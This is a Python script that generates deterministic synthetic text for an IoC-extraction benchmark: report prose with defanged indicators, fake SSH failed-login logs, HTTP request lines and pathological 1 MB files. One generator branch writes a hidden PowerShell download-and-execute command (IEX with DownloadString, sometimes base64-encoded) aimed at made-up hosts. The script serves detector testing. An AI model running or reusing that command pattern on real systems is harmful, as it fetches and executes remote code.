"""Writes the IoC benchmark's mixed text: logs, command lines and report prose with defanged
indicators, deterministic (seeded), about SIZE bytes. Also the pathological 1 MB lines.

    python ioc_text.py mixed OUT [SIZE]     # default 10 MB
    python ioc_text.py pathological DIR
"""
import base64
import random
import sys

WORDS = ("the of and to in is was for on that with as by at from this be are an it or which "
         "attacker payload loader beacon campaign observed analysts malware infrastructure "
         "lateral movement persistence credential dumping exfiltration domain controller").split()
TLDS = ["com", "net", "org", "io", "ru", "cn", "info", "top", "xyz", "co.uk", "de"]


def ip(r):
    return ".".join(str(r.randint(1, 254)) for _ in range(4))


def host(r):
    return f"{r.choice(['api', 'cdn', 'mail', 'login', 'update'])}{r.randint(1, 99)}.{r.choice(['alpha', 'bravo', 'kilo', 'delta'])}-{r.randint(1, 999)}.{r.choice(TLDS)}"


def hexs(r, n):
    return "".join(r.choice("0123456789abcdef") for _ in range(n))


def defang(s):
    return s.replace(".", "[.]")


def prose(r, n):
    return " ".join(r.choice(WORDS) for _ in range(n))


def ioc(r):
    return r.choice([
        f"hxxp://{defang(host(r))}/{hexs(r, 6)}",
        defang(ip(r)),
        f"sha256 {hexs(r, 64)}",
        f"md5 {hexs(r, 32)}",
        f"contact{r.randint(1, 99)}[at]{defang(host(r))}",
        f"CVE-202{r.randint(0, 4)}-{r.randint(1000, 49999)}",
        f"T1{r.randint(0, 599):03d}.00{r.randint(1, 9)}",
        host(r),
    ])


def line(r):
    """One line: report prose (half of the text), logs, command lines."""
    k = r.random()
    if k < 0.5:
        # A paragraph of a report: a few sentences, one or two indicators.
        sentences = [prose(r, r.randint(10, 25)).capitalize() for _ in range(r.randint(3, 6))]
        for _ in range(r.randint(1, 2)):
            i = r.randrange(len(sentences))
            sentences[i] += f" {ioc(r)}"
        return ". ".join(sentences) + "."
    if k < 0.7:
        return (f"2024-06-01T12:{r.randint(10, 59)}:{r.randint(10, 59)}Z sshd[{r.randint(100, 9999)}]: "
                f"Failed password for invalid user admin from {ip(r)} port {r.randint(1024, 65535)} ssh2")
    if k < 0.85:
        url = f"https://{host(r)}/{r.choice(['a', 'x', 'dl'])}/{hexs(r, 8)}.ps1"
        cmd = f"IEX (New-Object Net.WebClient).DownloadString('{url}')"
        enc = base64.b64encode(cmd.encode("utf-16-le")).decode() if r.random() < 0.2 else ""
        return (f'"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -nop -w hidden '
                + (f"-enc {enc}" if enc else f'-c "{cmd}"'))
    return (f"GET /index.php?id={r.randint(1, 9999)} HTTP/1.1 Host: {host(r)} "
            f"X-Forwarded-For: {ip(r)} User-Agent: Mozilla/5.0 ref=https://{host(r)}/p?u=https%3A%2F%2F{host(r)}%2Fx")


def mixed(out, size):
    r = random.Random(20261123)
    with open(out, "w") as f:
        n = 0
        while n < size:
            s = line(r) + "\n"
            f.write(s)
            n += len(s)


def pathological(d):
    for name, unit in [("dots", "a."), ("digits", "1234567890"), ("brackets", "[.]"),
                       ("colons", "1:"), ("urls", "http://"), ("ats", "a@"), ("percent", "%41")]:
        with open(f"{d}/ioc_path_{name}.txt", "w") as f:
            f.write(unit * (1_000_000 // len(unit)))


if __name__ == "__main__":
    if sys.argv[1] == "mixed":
        mixed(sys.argv[2], int(sys.argv[3]) if len(sys.argv) > 3 else 10_000_000)
    else:
        pathological(sys.argv[2])
